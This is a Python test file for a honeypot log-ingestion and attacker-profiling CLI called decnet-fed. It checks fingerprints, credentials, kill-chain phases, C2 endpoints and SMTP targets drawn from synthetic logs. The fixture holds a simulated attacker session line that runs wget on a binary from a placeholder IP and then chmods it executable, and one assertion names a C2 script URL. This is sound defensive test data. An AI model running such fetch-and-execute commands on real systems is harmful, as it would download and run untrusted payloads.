"""Local profiles through the real `decnet-fed` console script and a real store file."""

from __future__ import annotations

import json
import random
from pathlib import Path
from typing import Any

import pytest

from node.store import SCHEMA_VERSION
from tests.support import SAMPLES, CliRunner, json_out

OFFLINE = {"DECNET_FED_ENRICHMENT_PTR_ENABLED": "0"}
ATTACKER = "192.0.2.44"
PROFILE_KEYS = {
    "ip", "first_seen", "last_seen", "event_count", "services", "honeypots", "enrichment",
    "smtp_targets", "fingerprints", "rotation", "ipv6_leaks", "sessions", "credentials",
    "phases", "phase_order", "commands_total", "commands", "payloads", "c2_endpoints",
    "simhashes",
}
JARM_B = "2ad2ad0002ad2ad00042d42d00000069d641f34fe76acdc05c40262f8815e5"


def write_shard(path: Path, sid: str, seed: int) -> Path:
    """A transcript shard: header, typed input with echoed output, a paste, bad bytes, trunc."""
    rnd, t = random.Random(seed), 0.4
    lines = [json.dumps({"sid": sid, "hdr": {"version": 2, "width": 120, "height": 40,
                                             "timestamp": 1772442600,
                                             "env": {"SHELL": "/bin/bash", "TERM": "xterm"}}})]
    for ch in "uname -a; cat /proc/cpuinfo; wget http://203.0.113.80/x86; chmod +x x86\r":
        t += rnd.uniform(0.05, 0.35)
        lines.append(json.dumps({"sid": sid, "t": round(t, 6), "ch": "i", "d": ch}))
        lines.append(json.dumps({"sid": sid, "t": round(t + 0.001, 6), "ch": "o", "d": ch}))
    lines.append(json.dumps({"sid": sid, "t": t + 1, "ch": "i", "d": "pasted text\r"}))
    lines.append(json.dumps({"sid": sid, "t": t + 2, "ch": "r", "d": "100x30"}))
    body = "\n".join(lines).encode() + b"\n"
    body += b'{"sid": "' + sid.encode() + b'", "t": 99.5, "ch": "o", "d": "\xff\xfe\xfd"}\n'
    body += json.dumps({"sid": sid, "trunc": True}).encode() + b"\n"
    path.write_bytes(body)
    return path


@pytest.fixture
def logs(tmp_path: Path) -> list[str]:
    extra = tmp_path / "extra.log"
    extra.write_text(
        f'<134>1 2026-03-02T10:05:00+00:00 decnet-prober prober - jarm_fingerprint [relay@55555'
        f' target_ip="{ATTACKER}" target_port="443" jarm_hash="{JARM_B}"]\n'
        f'<134>1 2026-03-02T10:05:01+00:00 decnet-prober prober - jarm_fingerprint [relay@55555'
        f' target_ip="{ATTACKER}" target_port="8443" jarm_hash="{"0" * 62}"]\n'
        f'<134>1 2026-03-02T10:06:00+00:00 web-02 sniffer - tls_client_hello [relay@55555'
        f' src_ip="{ATTACKER}" ja3="not-a-ja3" ja4="t13d1517h2_8daaf6152771_b0da82dd1658"]\n'
        '<134>1 2026-03-02T10:07:00+00:00 mail-01 smtp - rcpt_to [relay@55555'
        ' src="198.51.100.23" value="<x@victim.test>"]\n',
        encoding="utf-8")
    shard = write_shard(tmp_path / "sessions-2026-03-02.jsonl", "5f0c9a7e", seed=5)
    return [str(shard), *sorted(map(str, SAMPLES.iterdir())), str(extra)]


def observation(cli: CliRunner, ip: str = ATTACKER) -> dict[str, Any]:
    result: dict[str, Any] = json_out(cli("observation", ip, "--json", check=True,
                                          env_extra=OFFLINE))
    return result


def test_observation_json_carries_every_signal(cli: CliRunner, logs: list[str]) -> None:
    cli("init", check=True)
    cli("ingest", *logs, check=True, env_extra=OFFLINE)

    profile = observation(cli)

    assert set(profile) == PROFILE_KEYS
    assert profile["honeypots"] == ["web-02"]
    fingerprints = {(f["kind"], f["value"]) for f in profile["fingerprints"]}
    assert ("ja3", "e7d705a3286e19ea42f587b344ee6865") in fingerprints
    assert ("ja4", "t13d1517h2_8daaf6152771_b0da82dd1658") in fingerprints
    assert ("ssh_banner", "SSH-2.0-Go") in fingerprints
    assert {"hassh_server", "tcpfp", "tls_cert", "jarm", "ssh_server_banner"} <= \
        {kind for kind, _ in fingerprints}
    assert all(f["version"] == 1 and f["side"] in ("client", "server")
               for f in profile["fingerprints"])
    rotation = profile["rotation"]
    assert rotation["count"] == 1
    assert rotation["records"][0]["new"] == JARM_B
    assert [p["port"] for p in rotation["probes"] if p["probe"] == "jarm"] == [443]
    assert profile["ipv6_leaks"]["kind"] == "eui64"
    assert profile["ipv6_leaks"]["oui"] == "00:11:22"
    assert profile["credentials"][0]["username"] == "admin"
    assert [c["phases"] for c in profile["commands"]] == \
        [["discovery"], ["command_and_control", "execution"]]
    assert profile["phase_order"] == {"web-02": {"first": "discovery",
                                                 "last": "execution"}}
    assert profile["c2_endpoints"][0]["url"] == "http://203.0.113.80/i.sh"
    keystroke = profile["simhashes"]["keystroke"]
    assert len(keystroke) == 1
    assert keystroke[0]["session"] == "5f0c9a7e" and keystroke[0]["truncated"] is True
    assert len(keystroke[0]["simhash"]) == 16 and keystroke[0]["simhash"] != "0" * 16
    assert profile["enrichment"]["ptr_status"] in ("skipped", "disabled")

    mail = observation(cli, "198.51.100.23")
    assert [(t["domain"], t["count"]) for t in mail["smtp_targets"]] == \
        [("victim-co.com", 2), ("one.org", 1), ("two.org", 1)]
    assert mail["simhashes"]["mail_body"][0]["simhash"] == "9f3c2a1b0e4d5c6f"
    assert {p["source"] for p in mail["payloads"]} == {"mail_message", "mail_attachment"}


def test_human_observation_view(cli: CliRunner, logs: list[str]) -> None:
    cli("init", check=True)
    cli("ingest", *logs, check=True, env_extra=OFFLINE)
    text = cli("observation", ATTACKER, check=True, env_extra=OFFLINE).stdout
    for heading in ("Fingerprints", "Rotations", "IPv6 link-local leaks", "Kill-chain phases",
                    "Commands", "C2 endpoints", "Keystroke SimHashes", "Credentials"):
        assert heading in text


def test_re_ingesting_adds_nothing(cli: CliRunner, logs: list[str]) -> None:
    cli("init", check=True)
    cli("ingest", *logs, check=True, env_extra=OFFLINE)
    before = [observation(cli), observation(cli, "198.51.100.23")]
    status_before = json_out(cli("status", "--json", check=True))

    again = json_out(cli("ingest", *logs, "--json", check=True, env_extra=OFFLINE))

    assert again["events_stored"] == 0
    assert [observation(cli), observation(cli, "198.51.100.23")] == before
    assert json_out(cli("status", "--json", check=True))["field_rejections"] == \
        status_before["field_rejections"]


def test_field_rejections_are_counted_in_status(cli: CliRunner, logs: list[str]) -> None:
    cli("init", check=True)
    cli("ingest", *logs, check=True, env_extra=OFFLINE)
    status = json_out(cli("status", "--json", check=True))
    assert status["schema_version"] == SCHEMA_VERSION
    assert status["field_rejections"]["fingerprint:ja3:bad_format"] == 1
    assert status["field_rejections"]["smtp:reserved_tld"] == 1
    assert "field rejections" in cli("status", check=True).stdout


def test_query_smtp_local(cli: CliRunner, logs: list[str]) -> None:
    cli("init", check=True)
    cli("ingest", *logs, check=True, env_extra=OFFLINE)

    answer = json_out(cli("query", "smtp", "VICTIM-CO.COM.", "--local", "--json", check=True))
    assert answer == {"domain": "victim-co.com", "seen": True, "count": 3,
                      "first_seen": "2026-03-02T08:14:05.120334Z",
                      "last_seen": "2026-03-02T11:40:12Z"}
    idn = json_out(cli("query", "--json", "smtp", "bücher.de", "--local", check=True))
    assert (idn["domain"], idn["count"]) == ("xn--bcher-kva.de", 1)
    never = json_out(cli("query", "smtp", "never.example.org", "--local", "--json", check=True))
    assert never == {"domain": "never.example.org", "seen": False, "count": 0,
                     "first_seen": None, "last_seen": None}
    assert "seen 3 times" in cli("query", "smtp", "victim-co.com", "--local", check=True).stdout


def test_query_refuses_bad_questions_and_remote_without_federation(
        cli: CliRunner, logs: list[str]) -> None:
    cli("init", check=True)
    bad = cli("query", "smtp", "x.invalid", "--local")
    assert bad.returncode == 1 and "reserved_tld" in bad.stderr
    remote = cli("query", "smtp", "victim-co.com")  # asks peers: there are none yet
    assert remote.returncode == 1
    assert "--local" in remote.stderr
    mixed = cli("query", "smtp", "victim-co.com", "--local", "--peer", "p1")
    assert mixed.returncode == 1 and "--peer" in mixed.stderr


def test_query_fingerprint_and_simhash_local(cli: CliRunner, logs: list[str]) -> None:
    cli("init", check=True)
    cli("ingest", *logs, check=True, env_extra=OFFLINE)
    found = json_out(cli("query", "fingerprint", "ja3", "E7D705A3286E19EA42F587B344EE6865",
                         "--local", "--json", check=True))
    assert (found["seen"], found["count"]) == (True, 1)
    assert cli("query", "fingerprint", "ja3", "zz", "--local").returncode == 1

    keystroke = observation(cli)["simhashes"]["keystroke"][0]["simhash"]
    near = json_out(cli("query", "simhash", "keystroke", keystroke, "--within", "0", "--local",
                        "--json", check=True))
    assert near == {"kind": "keystroke", "simhash": keystroke, "within": 0, "match": True,
                    "min_distance": 0, "count_within": 1}
    mail = json_out(cli("query", "simhash", "mail_body", "9f3c2a1b0e4d5c6e", "--local", "--json",
                        check=True))
    assert (mail["match"], mail["min_distance"]) == (True, 1)


def test_observation_of_unknown_or_bad_ip(cli: CliRunner) -> None:
    cli("init", check=True)
    unknown = cli("observation", "203.0.113.250", env_extra=OFFLINE)
    assert unknown.returncode == 1 and "no observation" in unknown.stderr
    bad = cli("observation", "999.1.1.1", env_extra=OFFLINE)
    assert bad.returncode == 1 and "not an IP address" in bad.stderr


def test_enrichment_from_configured_files(cli: CliRunner, home: Path, logs: list[str]) -> None:
    cli("init", check=True)
    (home / "delegated-test").write_text(
        "2|test|20260301|2|19830705|20260228|+0000\n"
        "test|*|ipv4|*|2|summary\n"
        "test|NL|ipv4|192.0.2.0|256|20200101|assigned\n", encoding="utf-8")
    (home / "ip2asn.tsv").write_text("192.0.2.0\t192.0.2.255\t64496\tNL\tEXAMPLE-NET\n",
                                     encoding="utf-8")
    env = {**OFFLINE, "DECNET_FED_ENRICHMENT_RIR_PATHS": "delegated-test, missing-file",
           "DECNET_FED_ENRICHMENT_IP2ASN_PATH": str(home / "ip2asn.tsv")}
    cli("ingest", *logs, check=True, env_extra=env)
    profile = json_out(cli("observation", ATTACKER, "--json", check=True, env_extra=env))
    assert profile["enrichment"] == {
        "country": "NL", "asn": 64496, "as_name": "EXAMPLE-NET", "as_country": "NL",
        "as_prefix": "192.0.2.0/24", "ptr": None, "ptr_status": "skipped",
    }


def test_operator_phase_rules(cli: CliRunner, home: Path, logs: list[str]) -> None:
    cli("init", check=True)
    (home / "phases.toml").write_text(
        '[[rule]]\nphase = "resource_development"\npattern = "^cat /etc/os-release"\n'
        'note = "our fleet counts this as staging"\n', encoding="utf-8")
    env = {**OFFLINE, "DECNET_FED_PROFILE_PHASE_RULES_PATH": "phases.toml"}
    cli("ingest", *logs, check=True, env_extra=env)
    commands = observation(cli)["commands"]
    assert commands[0]["phases"] == ["resource_development"]

    broken = {**OFFLINE, "DECNET_FED_PROFILE_PHASE_RULES_PATH": "missing.toml"}
    proc = cli("ingest", *logs, env_extra=broken)
    assert proc.returncode == 1 and "phase_rules_path" in proc.stderr


def test_reprofile_applies_changed_phase_rules(cli: CliRunner, home: Path,
                                               logs: list[str]) -> None:
    cli("init", check=True)
    cli("ingest", *logs, check=True, env_extra=OFFLINE)
    before = observation(cli)
    assert before["commands"][0]["phases"] == ["discovery"]
    (home / "phases.toml").write_text(
        '[[rule]]\nphase = "resource_development"\npattern = "^cat /etc/os-release"\n',
        encoding="utf-8")
    env = {**OFFLINE, "DECNET_FED_PROFILE_PHASE_RULES_PATH": "phases.toml"}

    done = json_out(cli("reprofile", "--json", check=True, env_extra=env))

    assert done["events_replayed"] == json_out(cli("status", "--json"))["events"]
    after = observation(cli)
    assert after["commands"][0]["phases"] == ["resource_development"]
    unchanged = {k: v for k, v in before.items() if k not in ("commands", "phases", "phase_order")}
    assert {k: v for k, v in after.items() if k in unchanged} == unchanged


def test_profiling_can_be_off_for_a_bulk_load_then_rebuilt(cli: CliRunner,
                                                           logs: list[str]) -> None:
    cli("init", check=True)
    cli("ingest", *logs, check=True, env_extra={**OFFLINE, "DECNET_FED_PROFILE_ENABLED": "0"})
    assert observation(cli)["fingerprints"] == []
    cli("reprofile", check=True, env_extra=OFFLINE)
    assert len(observation(cli)["fingerprints"]) >= 8
